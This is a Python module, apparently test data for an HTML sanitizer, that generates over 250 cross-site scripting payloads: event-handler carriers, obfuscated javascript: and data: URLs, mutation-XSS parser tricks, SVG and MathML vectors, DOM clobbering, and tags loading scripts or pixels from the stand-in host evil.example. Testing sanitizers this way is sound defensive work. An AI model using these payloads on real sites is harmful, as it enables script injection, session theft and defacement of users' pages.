"""Markup that tries to run a script, call another site or cover the page, made from the known families.

Each piece calls `ran()` in whatever window it reaches.
"""

from itertools import chain, product

HANDLERS = (
    *("onerror", "onload", "onfocus", "onclick", "onmouseover", "onpointerenter", "onanimationstart"),
    *("ontoggle", "onbeforetoggle", "oncontentvisibilityautostatechange", "onscrollend"),
)
CARRIERS = (
    "<img src=x {handler}=ran()>",
    "<svg {handler}=ran()><circle r=9></circle></svg>",
    "<details open {handler}=ran()><summary>more</summary></details>",
    "<video autoplay {handler}=ran()><source src=x {handler}=ran()></video>",
    "<input autofocus {handler}=ran()>",
    "<p tabindex=0 id=x {handler}='ran()' style='animation:a 1s;content-visibility:auto'>words</p>",
    "<iframe src=about:blank {handler}=ran()></iframe>",
)
ADDRESSES = (
    *(
        "javascript:ran()",
        "JaVaScRiPt:ran()",
        " javascript:ran()",
        "java\tscript:ran()",
        "java\nscript:ran()",
    ),
    *(
        "javascript&colon;ran()",
        "&#106;avascript:ran()",
        "&#x6A;&#x61;vascript:ran()",
        "\x01javascript:ran()",
    ),
    *("java&Tab;script:ran()", "javascript://%0aran()", "data:text/html,<script>parent.ran()</script>"),
    *(
        "data:text/html;base64,PHNjcmlwdD5wYXJlbnQucmFuKCk8L3NjcmlwdD4=",
        "vbscript:ran()",
        "feed:javascript:ran()",
    ),
    *("view-source:javascript:ran()", "//evil.example/x", "/\\evil.example/x", "\u2028javascript:ran()"),
)
HOLDERS = (
    '<a href="{address}">go</a>',
    '<iframe src="{address}"></iframe>',
    '<form action="{address}"><button formaction="{address}">go</button></form>',
    '<figure class="embed" data-embed="{address}"><figcaption>play</figcaption></figure>',
    '<object data="{address}"></object><embed src="{address}">',
    '<svg><a xlink:href="{address}" href="{address}"><text y=9>go</text></a></svg>',
)
MUTATING = (
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=ran()&gt;'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=ran()>",
    "<math><mtext><table><mglyph><style><math><table id='</table><img src onerror=ran()>'>",
    "<svg></p><style><a id='</style><img src=1 onerror=ran()>'>",
    "<svg><style><img src=x onerror=ran()></style></svg>",
    "<noscript><p title='</noscript><img src=x onerror=ran()>'>",
    "<template><img src=x onerror=ran()></template>",
    "<textarea><img title='</textarea><img src onerror=ran()>'>",
    "<title><a title='</title><img src onerror=ran()>'>",
    "<xmp><p title='</xmp><img src onerror=ran()>'>",
    "<plaintext><img src=x onerror=ran()>",
    "<!--><img src=x onerror=ran()>-->",
    "<!-- --!><img src=x onerror=ran()> -->",
    "<![CDATA[><img src=x onerror=ran()>]]>",
    "<?xml <img src=x onerror=ran()>?>",
    "<select><option><img src=x onerror=ran()></option></select>",
    "<select><style></select><img src=x onerror=ran()></style>",
    "<table><td><form><table><img src=x onerror=ran()></table></form></td></table>",
    "<svg><foreignObject><div><script>ran()</script></div></foreignObject></svg>",
    "<math><annotation-xml encoding='text/html'><script>ran()</script></annotation-xml></math>",
    "<svg><desc><table><tbody><svg><style><img src=x onerror=ran()></style></svg></table></desc></svg>",
    "<p><b><p><script>ran()</script></b>",
    "<<script>ran()//<</script>",
    "<scr<script>ipt>ran()</scr</script>ipt>",
    "<script/x>ran()</script>",
    "<img src='x'onerror='ran()'>",
    "<img/src/onerror=ran()>",
    "<img src=x onerror\x00=ran()>",
    "<iframe srcdoc='<script>parent.ran()</script>'></iframe>",
    "&lt;img src=x onerror=ran()&gt;",
    "&amp;lt;script&amp;gt;ran()&amp;lt;/script&amp;gt;",
    "%3Cscript%3Eran()%3C/script%3E",
    "+ADw-script+AD4-ran()+ADw-/script+AD4-",
    "\u2039script\u203aran()\u2039/script\u203a",
    "{{ ''.__class__ }}{% debug %}<script>ran()</script>",
    "</script><script>ran()</script>",
    "]]></script><!--<script>ran()",
    "</title></style></textarea></noscript><script>ran()</script>",
)
VECTORS = (
    "<svg><script>ran()</script></svg>",
    "<svg><script href='data:text/javascript,ran()'></script></svg>",
    "<svg><animate onbegin=ran() attributeName=x dur=1s></svg>",
    "<svg><a><animate attributeName=href values=javascript:ran()></animate><text y=9>go</text></a></svg>",
    "<svg><set attributeName=onmouseover to=ran()></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x><script>ran()</script></svg>#x'></use></svg>",
    "<svg><image href=x onerror=ran()></image></svg>",
    "<svg><handler type=text/javascript>ran()</handler></svg>",
    "<math href='javascript:ran()'>go</math>",
    "<math><maction actiontype='statusline#http://evil.example' xlink:href='javascript:ran()'>go</maction></math>",  # noqa: E501
    "<math><mi xlink:href='javascript:ran()'>go</mi></math>",
)
CALLING = (
    "<img src=https://evil.example/pixel.png>",
    "<img srcset='https://evil.example/p.png 2x' src=data:,>",
    "<picture><source srcset=https://evil.example/p.png><img></picture>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<link rel=prefetch href=https://evil.example/x>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<base href=https://evil.example/>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<style>body{background:url(https://evil.example/x.png)}</style>",
    "<p style='background:url(https://evil.example/x.png)'>words</p>",
    "<p style='position:fixed;inset:0;z-index:999'>cover</p>",
    "<style>body{display:none}</style>",
    "<p style='width:expression(ran());behavior:url(x);-moz-binding:url(x)'>words</p>",
    "<video poster=https://evil.example/p.png src=https://evil.example/v.mp4></video>",
    "<audio src=https://evil.example/a.mp3 autoplay></audio>",
    "<table background=https://evil.example/x.png><tr><td>words</td></tr></table>",
    "<input type=image src=https://evil.example/x.png>",
    "<a href=https://ok.example/ ping=https://evil.example/ target=_top>go</a>",
    "<script src=https://evil.example/x.js></script>",
    "<script type=module>import 'https://evil.example/x.js'</script>",
    "<portal src=https://evil.example/></portal>",
    "<frameset><frame src=https://evil.example/></frameset>",
)
OUR_FORMS = (
    "<div class='editors-note' role=note data-signature='\"><img src=x onerror=ran()>'><p>note</p></div>",
    "<div class='editors-note' data-date='2026-03-02\"><script>ran()</script>'><p>note</p></div>",
    "<div class='editors-note' onclick=ran()><script>ran()</script></div>",
    "<div class='editors-note masthead skip'><p>note</p></div>",
    "<figure data-slot='1\"><script>ran()</script>'></figure>",
    "<figure data-slot=1 data-frame='javascript:ran()' class=embed></figure>",
    "<figure class=embed data-frame='javascript:ran()'><a class=embed-link href='javascript:ran()'>x</a></figure>",  # noqa: E501
    "<figure class=embed data-embed='https://www.youtube.com/watch?v=dQw4w9WgXcQ&quot;onload=&quot;ran()'></figure>",  # noqa: E501
    "<figure class=embed data-embed='https://vimeo.com/76979871'><figcaption><img src=x onerror=ran()></figcaption></figure>",  # noqa: E501
    '<figure class=table><figcaption>"><script>ran()</script></figcaption><table><tr><td>1</td></tr></table></figure>',  # noqa: E501
    "<figure class=table><table><tr><td onclick=ran() colspan='2\"onclick=\"ran()'>1</td></tr></table></figure>",  # noqa: E501
    "<figure class=quotation><blockquote cite='javascript:ran()'><p>said</p></blockquote></figure>",
    "<form id=embed><input name=parentElement><input name=querySelector></form>",
    "<a id=location href=javascript:ran()>go</a><img name=body><form name=cookie></form>",
    "<p id=main>main</p><p id=comments>comments</p>",
    "<p dir=rtl class=visually-hidden hidden inert aria-hidden=true>words</p>",
)


def bodies() -> list[str]:
    """More than 250 pieces, each once, in an order that stays."""
    events = (frame.format(handler=handler) for frame, handler in product(CARRIERS, HANDLERS))
    links = (frame.format(address=address) for frame, address in product(HOLDERS, ADDRESSES))
    return list(dict.fromkeys(chain(events, links, MUTATING, VECTORS, CALLING, OUR_FORMS)))
